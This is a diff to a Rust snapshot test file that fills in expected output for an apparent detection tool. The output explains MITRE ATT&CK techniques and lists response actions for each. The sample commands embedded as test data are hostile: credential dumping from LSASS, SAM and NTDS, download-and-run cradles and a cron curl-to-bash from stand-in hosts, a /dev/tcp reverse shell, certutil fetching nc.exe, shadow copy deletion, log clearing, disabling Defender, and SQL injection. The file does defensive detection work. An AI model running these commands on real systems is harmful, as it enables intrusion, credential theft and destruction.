@@ -133,17 +133,88 @@ fn told(pairs: &[Pair]) -> String {
 
 #[test]
 fn attacks_on_secrets_and_protection_read_well() {
-    insta::assert_snapshot!(told(&pairs()[..11]), @"");
+    insta::assert_snapshot!(told(&pairs()[..11]), @r#"
+    T1003.001 (true positive): The memory of LSASS, which holds the secrets of everybody who is signed in there, is read: rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\x.dmp full
+        isolate-host rotate-login-credentials collect-memory contact-owner preserve-logs
+    T1003.006 (true positive): An account that is no domain controller used the rights to replicate the passwords of the domain: permission DS-Replication-Get-Changes, principal CORP\j.meyer
+        disable-account rotate-krbtgt isolate-host contact-owner preserve-logs
+    T1003.002 (true positive): The registry hive with the hashes of local passwords is copied: reg save HKLM\SAM C:\Users\Public\s.hiv /y
+        isolate-host rotate-login-credentials collect-memory contact-owner preserve-logs
+    T1003.003 (true positive): The database with the passwords of the whole domain is copied: ntdsutil "ac i ntds" "ifm" "create full c:\temp\n" q q
+        isolate-host rotate-krbtgt collect-memory contact-owner preserve-logs
+    T1505.003 (true positive): A web server ran a command of somebody who looks round or fetches tools: parent C:\Windows\System32\inetsrv\w3wp.exe, command "cmd.exe" /c whoami /all & net user
+        isolate-host remove-persistence collect-memory contact-owner preserve-logs
+    T1059.001 (true positive): A command that was hidden in base64 fetches code and runs it: IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad.example/a.ps1')
+        isolate-host collect-memory contact-owner preserve-logs
+    T1027 (leaning malicious): A document program started a shell or a script host: parent winword.exe, command c^m^d /c s^e^t x=c^al^c & p^ow^er^sh^el^l -c "&('{1}{0}{2}'-f'h','w','oami')"
+        isolate-host purge-mail collect-memory contact-owner preserve-logs
+    T1562.001 (true positive): Protection of the host is switched off: powershell Set-MpPreference -DisableRealtimeMonitoring $true
+        isolate-host restore-protection contact-owner preserve-logs
+    T1070.001 (true positive): An event log is cleared: wevtutil.exe cl Security
+        isolate-host preserve-logs collect-memory contact-owner
+    T1490 (true positive): Copies from which the system could be restored are removed, as ransomware does before it encrypts: vssadmin delete shadows /all /quiet
+        isolate-host protect-backups collect-memory contact-owner preserve-logs
+    T1486 (true positive): A note was written that is called like those that ask for money for files: \\nas-01\fin\HOW_TO_DECRYPT_FILES.txt
+        isolate-host protect-backups collect-memory contact-owner preserve-logs
+    "#);
 }
 
 #[test]
 fn attacks_that_stay_and_move_on_read_well() {
-    insta::assert_snapshot!(told(&pairs()[11..22]), @"");
+    insta::assert_snapshot!(told(&pairs()[11..22]), @r#"
+    T1053.003 (true positive): What is fetched from a bare address runs at once: (crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.77/u.sh | bash') | crontab -
+        isolate-host collect-memory remove-persistence contact-owner preserve-logs
+    T1053.005 (leaning malicious): A scheduled task runs a script host, a hidden command, or what lies where anybody may write: schtasks /create /sc minute /mo 10 /tn "OneDrive Sync" /tr "C:\Users\Public\sync.exe" /ru SYSTEM
+        remove-persistence isolate-host contact-owner preserve-logs
+    T1543.003 (true positive): PowerShell fetches a script from a bare address and runs it without keeping a file: sc.exe create WinSvcHelper binPath= "cmd /c powershell -w hidden -c iex(iwr http://198.51.100.9/s)" start= auto
+        isolate-host collect-memory remove-persistence contact-owner preserve-logs
+    T1547.001 (leaning malicious): What runs at every sign-in is a script host, a hidden command, or lies where anybody may write: registry key HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater, command reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "mshta C:\Users\Public\u.hta" /f
+        remove-persistence isolate-host contact-owner preserve-logs
+    T1021.002 (leaning malicious): A program is run or put on another machine through its administrative share: PsExec64.exe \\srv-db-01 -s -d cmd.exe
+        isolate-host disable-account rotate-login-credentials contact-owner preserve-logs
+    T1047 (leaning malicious): A process is started through WMI: wmic /node:10.20.0.14 process call create "cmd /c C:\Windows\Temp\a.bat"
+        isolate-host disable-account contact-owner preserve-logs
+    T1021.006 (leaning malicious): Somebody at another machine started a shell here through WinRM: parent C:\Windows\System32\wsmprovhost.exe, command cmd.exe /c whoami
+        isolate-host disable-account contact-owner preserve-logs
+    T1558.003 (leaning malicious): Tickets of several service accounts were asked for with an encryption that can be broken offline: logon type TGS RC4_HMAC (0x17), count 38
+        reset-service-accounts disable-account confirm-with-user contact-owner preserve-logs
+    T1621 (true positive): The second factor was asked for again and again until somebody approved it: logon type MFA push, count 27, auth result approved, denied
+        suspend-sessions reset-credentials confirm-with-user contact-owner preserve-logs
+    T1528 (leaning malicious): An application was allowed to read or change mail, files or the directory in somebody's name: permission Files.ReadWrite.All, application Invoice Reader Pro
+        revoke-oauth-grant suspend-sessions confirm-with-user contact-owner preserve-logs
+    T1078.004 (leaning malicious): One account signed in from several countries: country BR, DE
+        confirm-with-user suspend-sessions reset-credentials contact-owner preserve-logs
+    "#);
 }
 
 #[test]
 fn attacks_over_the_network_read_well() {
-    insta::assert_snapshot!(told(&pairs()[22..]), @"");
+    insta::assert_snapshot!(told(&pairs()[22..]), @r#"
+    T1071.004 (leaning malicious): Queries carry data in the names that they ask for: dns query mzxw6ytboi4dqnbzgq3tsmrrgezdgnbvgy3tqojq.x1.t.bad.example, count 5120
+        isolate-host block-domain contact-owner preserve-logs
+    T1071.001 (leaning malicious): The same far end is called at regular intervals, as a program does that waits for orders: seconds between 60, count 480, domain cdn-sync.bad.example
+        isolate-host block-domain block-ip contact-owner preserve-logs
+    T1566.002 (leaning malicious): A link leads to a page that passes itself off as somebody else's: https://login-corp.secure-mail.example/verify?email=a.rossi@corp.example
+        purge-mail reset-credentials
+    T1190 (leaning malicious): A request carries SQL to the database behind the application: GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20
+        block-source-ip preserve-logs contact-owner
+    T1530 (leaning malicious): Very many files were read in one go: operation FileDownloaded, count 3480
+        confirm-with-user suspend-sessions
+    T1218.011 (true positive): A script runs under a program of Windows that is there for libraries: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/a")
+        isolate-host collect-memory purge-mail contact-owner preserve-logs
+    T1105 (leaning malicious): A file is fetched with a program of the system that is there for something else: certutil.exe -urlcache -split -f http://198.51.100.7/nc.exe C:\ProgramData\n.exe
+        isolate-host collect-memory contact-owner preserve-logs
+    T1136.001 (leaning malicious): An account is made by hand: net user support$ [redacted:command_password] /add
+        remove-persistence isolate-host contact-owner preserve-logs
+    T1110.003 (leaning malicious): The same source failed to sign in to many accounts: auth result failure, principal a.rossi@corp.example, b.lund@corp.example, c.diaz@corp.example, d.kim@corp.example, e.wolf@corp.example and 1 more
+        block-source-ip suspend-sessions reset-credentials contact-owner preserve-logs
+    T1550.002 (leaning malicious): A sign-in over NTLM looks like one with the hash of a password: logon type NTLM, NewCredentials (type 9)
+        isolate-host disable-account rotate-login-credentials contact-owner preserve-logs
+    T1059.004 (true positive): A shell is handed to somebody at a far end: bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
+        isolate-host collect-memory contact-owner preserve-logs
+    T1572 (leaning malicious): A tunnel out of the network is opened: ./chisel client 203.0.113.8:443 R:socks
+        isolate-host contact-owner preserve-logs
+    "#);
 }
 
 /// The pair of this technique.
